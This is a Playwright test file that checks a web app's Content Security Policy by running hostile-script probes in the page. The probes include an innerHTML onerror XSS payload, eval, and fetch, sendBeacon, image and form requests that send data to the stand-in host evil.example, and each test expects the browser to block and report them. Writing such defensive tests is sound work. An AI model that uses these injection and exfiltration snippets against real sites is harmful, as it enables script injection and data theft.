import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { test as base, expect } from '../kit/test.ts';

/** The probes below cause the violations that fail every other test. */
const test = base.extend({ quiet: ({ baseURL: _ }, use) => use(undefined) });

const evil = 'https://evil.example';

interface Probe {
  name: string;
  /** The directive that blocks it, as the browser names it. */
  directive: string;
  /** Runs in the page. */
  attempt: (evil: string) => unknown;
}

/** Inserts a Trusted Types policy as lax as a careless one, so that the other directives have to block. */
declare const trusted: { createScript(text: string): string; createScriptURL(text: string): string };

const probes: Probe[] = [
  {
    name: 'an inline script',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.text = trusted.createScript('window.hit = true');
      document.body.append(script);
    },
  },
  {
    name: 'a script from another origin',
    directive: 'script-src-elem',
    attempt: (origin) => {
      const script = document.createElement('script');
      script.src = trusted.createScriptURL(`${origin}/x.js`);
      document.body.append(script);
    },
  },
  {
    name: 'eval',
    directive: 'script-src',
    attempt: () => {
      // biome-ignore lint/security/noGlobalEval: it must not work
      globalThis.eval(trusted.createScript('window.hit = true'));
    },
  },
  {
    name: 'WebAssembly, which only the guidance worker may compile',
    directive: 'script-src',
    attempt: async () => {
      await WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0));
      Object.assign(window, { hit: true });
    },
  },
  {
    name: 'a string as script source',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('script').text = 'window.hit = true';
    },
  },
  {
    name: 'a string as HTML',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.hit = true">';
    },
  },
  {
    name: 'a string as timer handler',
    directive: 'require-trusted-types-for',
    attempt: () => {
      setTimeout('window.hit = true' as unknown as () => void);
    },
  },
  {
    name: 'a frame from another origin',
    directive: 'frame-src',
    attempt: (origin) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: origin })),
  },
  {
    name: 'a frame from our own origin',
    directive: 'frame-src',
    attempt: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
  },
  {
    name: 'an image from another origin',
    directive: 'img-src',
    attempt: (origin) => document.body.append(Object.assign(new Image(), { src: `${origin}/x.png?face` })),
  },
  {
    name: 'an image from a data URL',
    directive: 'img-src',
    attempt: () =>
      document.body.append(Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })),
  },
  {
    name: 'a fetch to another origin',
    directive: 'connect-src',
    attempt: (origin) => fetch(`${origin}/x`, { method: 'POST', body: 'face', mode: 'no-cors' }),
  },
  {
    name: 'a beacon to another origin',
    directive: 'connect-src',
    attempt: (origin) => navigator.sendBeacon(`${origin}/x`, 'face'),
  },
  {
    name: 'a WebSocket to another origin',
    directive: 'connect-src',
    attempt: (origin) => new WebSocket(origin.replace('https', 'wss')),
  },
  {
    name: 'an inline style',
    directive: 'style-src-elem',
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: '*{display:none}' }),
      ),
  },
  {
    name: 'a stylesheet from another origin',
    directive: 'style-src-elem',
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/x.css` }),
      ),
  },
  {
    name: 'a plug-in',
    directive: 'object-src',
    attempt: (origin) =>
      document.body.append(
        Object.assign(document.createElement('object'), { data: trusted.createScriptURL(`${origin}/x.pdf`) }),
      ),
  },
  {
    name: 'a form to another origin',
    directive: 'form-action',
    attempt: (origin) => {
      const form = Object.assign(document.createElement('form'), { action: `${origin}/x`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'a base element',
    directive: 'base-uri',
    attempt: (origin) =>
      document.head.append(Object.assign(document.createElement('base'), { href: origin })),
  },
  {
    name: 'a worker from a blob',
    directive: 'worker-src',
    attempt: () => {
      const url = URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }));
      new Worker(trusted.createScriptURL(url));
    },
  },
];

/** The directives that blocked something since the page was opened, report-only policies excluded. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const stopped: string[] = [];
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): object };
    };
    const same = (text: string) => text;
    const trusted = trustedTypes.createPolicy('probe', { createScript: same, createScriptURL: same });
    Object.assign(window, { stopped, trusted });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
      if (disposition === 'enforce') stopped.push(effectiveDirective);
    });
  });
  return () => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
}

const reachedOut = (page: Page) => {
  const urls: string[] = [];
  // A request that passes the policy would get here and find a response.
  void page.context().route(`${evil}/**`, (route) => {
    urls.push(route.request().url());
    return route.fulfill({ body: 'window.hit = true', contentType: 'text/javascript' });
  });
  return urls;
};

test('everything a hostile script tries is blocked by the right directive and reported', async ({
  page,
  visit,
}) => {
  const reached = reachedOut(page);
  const stopped = await watchPolicy(page);
  await visit.open();
  for (const { name, directive, attempt } of probes) {
    await test.step(name, async () => {
      await page.evaluate(() => ((window as unknown as { stopped: string[] }).stopped.length = 0));
      const report = page.waitForResponse((response) => response.url().endsWith('/csp-report'));
      // What throws was blocked too; the browser reports the directive.
      await page.evaluate(attempt, evil).catch(() => undefined);
      await expect.poll(stopped).toContain(directive);
      expect((await report).status()).toBe(204);
      expect(reached).toEqual([]);
      expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    });
  }
});

test('our page in a frame of another site is blocked', async ({ page, deployment }) => {
  // Another site on this machine: browsers block remote sites from a loopback address for a different reason.
  const other = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${deployment.url}/"></iframe>`);
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const site = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  const [refused] = await Promise.all([page.waitForEvent('requestfailed'), page.goto(site)]);
  // The response arrived and its headers forbid framing; no other error has this name.
  expect([refused.url(), refused.failure()?.errorText]).toEqual([
    `${deployment.url}/`,
    'net::ERR_BLOCKED_BY_RESPONSE',
  ]);
  other.close();
});
